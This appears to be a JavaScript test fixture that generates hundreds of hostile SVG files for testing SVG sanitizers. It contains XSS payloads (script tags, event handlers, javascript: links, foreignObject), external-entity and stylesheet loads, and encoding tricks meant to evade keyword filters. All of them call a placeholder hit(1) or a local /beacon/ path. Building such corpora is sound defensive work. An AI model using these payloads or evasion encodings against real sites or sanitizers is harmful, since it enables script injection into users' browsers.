// Hostile SVG files: what runs or loads, each in many ways to write it. Ways of others are from the cheat sheets of PortSwigger and of
// html5sec.org, the tests of DOMPurify and svg-sanitizer, and the rules of CSS and XML by which words are hidden.

/** What runs, by `hit(…)`, or loads something from `/beacon/`, written plainly; `~` is a place where nothing changes the meaning. */
const acts = [
  `<script>hit(1)</script>`,
  `<script href="/beacon/script.js"/>`,
  `<script xlink:href="/beacon/script.js"/>`,
  `<script type="application/ecmascript"><![CDATA[hit(1)]]></script>`,
  `<g onload="hit(1)"/>`,
  `<rect width="9" height="9" onclick="hit(1)" onmouseover="hit(1)" onfocusin="hit(1)" tabindex="0" autofocus="autofocus"/>`,
  `<image href="x" onerror="hit(1)" width="9" height="9"/>`,
  `<animate onbegin="hit(1)" attributeName="x" dur="1s"/>`,
  `<set onbegin="hit(1)" attributeName="x" to="1"/>`,
  `<animateMotion onend="hit(1)" dur="1s"/>`,
  `<a href="javascript:hit(1)"><rect width="9" height="9"/></a>`,
  `<a xlink:href="javascript:hit(1)"><rect width="9" height="9"/></a>`,
  `<a><set attributeName="href" to="javascript:hit(1)"/><rect width="9" height="9"/></a>`,
  `<a><animate attributeName="xlink:href" values="javascript:hit(1)"/><rect width="9" height="9"/></a>`,
  `<image href="/beacon/image.png" width="9" height="9"/>`,
  `<image xlink:href="//127.0.0.1/beacon/image.png" width="9" height="9"/>`,
  `<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='hit(1)'/%3E" width="9" height="9"/>`,
  `<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgxKSIvPg==" width="9" height="9"/>`,
  `<use href="/beacon/use.svg#x"/>`,
  `<use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIvPg==#x"/>`,
  `<feImage href="/beacon/filter.png"/>`,
  `<filter id="f"><feImage xlink:href="/beacon/filter.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  `<pattern id="p" href="/beacon/pattern.svg#x"/><rect fill="url(#p)" width="9" height="9"/>`,
  `<linearGradient id="l" xlink:href="/beacon/gradient.svg#x"/><rect fill="url(#l)" width="9" height="9"/>`,
  `<textPath href="/beacon/path.svg#x">a</textPath>`,
  `<mpath href="/beacon/path.svg#x"/>`,
  `<rect fill="url(/beacon/paint.svg#x)" width="9" height="9"/>`,
  `<rect style="fill:url(/beacon/paint.svg#x)" width="9" height="9"/>`,
  `<rect filter="url('/beacon/filter.svg#x')" width="9" height="9"/>`,
  `<rect clip-path='url("/beacon/clip.svg#x")' width="9" height="9"/>`,
  `<rect mask="url( /beacon/mask.svg#x )" width="9" height="9"/>`,
  `<rect mask="image-set('/beacon/mask.png' 1x)" width="9" height="9"/>`,
  `<rect mask="src('/beacon/mask.png')" width="9" height="9"/>`,
  `<rect marker-end="url(/beacon/marker.svg#x)" width="9" height="9"/>`,
  `<rect cursor="url(/beacon/cursor.png), auto" width="9" height="9"/>`,
  `<rect style="background:url(/beacon/back.png);list-style-image:url(/beacon/list.png)" width="9" height="9"/>`,
  `<rect style="-moz-binding:url(/beacon/xbl#x);behavior:url(/beacon/behavior)" width="9" height="9"/>`,
  `<style>@import "/beacon/sheet.css";</style>`,
  `<style>@import url(/beacon/sheet.css);</style>`,
  `<style>@font-face{font-family:x;src:url(/beacon/font)} text{font-family:x}</style><text y="5">x</text>`,
  `<style>rect{fill:url(/beacon/paint.svg#x)}</style><rect width="9" height="9"/>`,
  `<style>rect{mask-image:url(/beacon/mask.png)} svg{background:url(/beacon/back.png)}</style><rect width="9" height="9"/>`,
  `<style>@namespace x url(/beacon/space);@media all{rect{fill:url(/beacon/paint.svg#x)}}</style>`,
  `<style>:root{--x:url(/beacon/variable.png)} rect{mask:var(--x)}</style><rect width="9" height="9"/>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="/beacon/sheet.css"/>`,
  `<h:script xmlns:h="http://www.w3.org/1999/xhtml">hit(1)</h:script>`,
  `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="/beacon/img.png" onerror="hit(1)"/>`,
  `<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="/beacon/frame"/></foreignObject>`,
  `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="hit(1)"><embed src="/beacon/embed"/></body></foreignObject>`,
  `<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.hit(1)&lt;/script&gt;"/>`,
  `<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=/beacon/meta"/>`,
  `<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="/beacon/"/><image href="base.png" width="9" height="9"/>`,
  `<g xml:base="/beacon/"><image href="xmlbase.png" width="9" height="9"/></g>`,
  `<audio xmlns="http://www.w3.org/1999/xhtml" src="/beacon/audio" onerror="hit(1)" autoplay="autoplay"/>`,
  `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hit(1)</handler>`,
  `<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"/>`,
  `<i:import xmlns:i="http://www.w3.org/2001/XInclude" href="/beacon/include"/>`,
  `<discard onbegin="hit(1)" begin="0s"/>`,
  `<metadata><h:script xmlns:h="http://www.w3.org/1999/xhtml">hit(1)</h:script></metadata>`,
  `<title><h:script xmlns:h="http://www.w3.org/1999/xhtml">hit(1)</h:script></title>`,
  `<desc><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="/beacon/desc.png"/></desc>`,
  `<switch><foreignObject><h:script xmlns:h="http://www.w3.org/1999/xhtml">hit(1)</h:script></foreignObject></switch>`,
  `<text><tspan onmouseover="hit(1)">a</tspan><script>hit(1)</script></text>`,
  `<symbol id="s"><script>hit(1)</script></symbol><use href="#s"/>`,
];

/** Ways to write what an attribute or a rule says, so that a search for words does not see it. */
const encode = (text) => text.replace(/[a-z]/gi, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`);
const ways = {
  plainly: (inside) => inside,
  "by references in values": (inside) => inside.replace(/="([^"]*)"/g, (_, value) => `="${encode(value)}"`),
  "by an entity": (inside) => inside.replace(/javascript|\/beacon/g, (word) => `&${word === "/beacon" ? "b" : "j"};`),
  "by CDATA and comments in sheets": (inside) =>
    inside.replace(/@import|url\(/g, (word) => `<![CDATA[${word.slice(0, 2)}]]><!-- -->${word.slice(2)}`).replace(/<!-- -->(?=[^<]*<\/style>)/g, ""),
  "by escapes of CSS": (inside) => inside.replace(/@import/g, "@\\69mport").replace(/url\(/g, "\\75rl("),
  "by comments of CSS": (inside) => inside.replace(/@import /g, "@import/**/").replace(/:url\(/g, ":/*x*/url("),
  "in capitals": (inside) => inside.replace(/url\(/g, "URL(").replace(/javascript/g, "JavaScript").replace(/@import/g, "@IMPORT"),
  "with spaces and controls": (inside) => inside.replace(/javascript:/g, "&#9;java&#10;script&#13;:").replace(/url\(/g, "url(\n "),
  "in a namespace with a prefix": (inside) =>
    inside.replace(/<(\/?)(script|image|use|style|rect|a|g|set|animate|feImage|filter|foreignObject)(?=[\s>/])/g, "<$1s:$2").replace(/ (xlink):/g, " y:"),
};

const xlink = `xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:y="http://www.w3.org/1999/xlink" xmlns:s="http://www.w3.org/2000/svg"`;
const doctype = `<!DOCTYPE svg [<!ENTITY j "javascript"><!ENTITY b "/beacon">]>`;
const file = (inside, attributes = "", before = "") => `${before}<svg xmlns="http://www.w3.org/2000/svg" ${xlink} viewBox="0 0 9 9" ${attributes}>${inside}</svg>`;

/** What stands around the shapes. */
const around = [
  `<?xml-stylesheet href="/beacon/sheet.css"?>${file("")}`,
  `<?xml-stylesheet type="text/xsl" href="/beacon/sheet.xsl"?>${file("")}`,
  `<!DOCTYPE svg [<!ENTITY e SYSTEM "/beacon/entity">]>${file("&e;")}`,
  `<!DOCTYPE svg SYSTEM "/beacon/external.dtd">${file("")}`,
  `<!DOCTYPE svg [<!ENTITY % p SYSTEM "/beacon/parameter.dtd"> %p;]>${file("")}`,
  `<!DOCTYPE svg [<!ENTITY e "<script xmlns='http://www.w3.org/2000/svg'>hit(1)</script>">]>${file("&e;")}`,
  `<!DOCTYPE svg [<!ENTITY e "x' onload='hit(1)">]>${file("<g class='&e;'/>")}`,
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "hit(1)">]>${file("")}`,
  `<!DOCTYPE svg [<!ATTLIST image href CDATA "/beacon/default.png">]>${file(`<image width="9" height="9"/>`)}`,
  file("", `onload="hit(1)"`),
  file("", `style="background:url(/beacon/root.png)"`),
  file("", `xml:base="/beacon/"`),
  file("", `contentScriptType="text/ecmascript" onzoom="hit(1)" onresize="hit(1)"`),
  file("<?xml-stylesheet href='/beacon/inner.css'?>"),
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>hit(1)</script>${file("")}</html>`,
  `<h:script xmlns:h="http://www.w3.org/1999/xhtml">hit(1)</h:script>`,
  `<svg onload="hit(1)">`,
  `GIF89a/*${file("<script>*/hit(1)</script>")}`,
];

/** At least three hundred files by name. */
export const hostileFiles = Object.fromEntries([
  ...around.map((text, place) => [`around ${place}`, text]),
  ...acts.flatMap((act, place) =>
    Object.entries(ways)
      .map(([way, write]) => [`act ${place} ${way}`, write(act), way])
      .filter(([, written, way]) => way === "plainly" || written !== act)
      .map(([name, written, way]) => [name, file(written, "", way === "by an entity" ? doctype : "")]),
  ),
]);
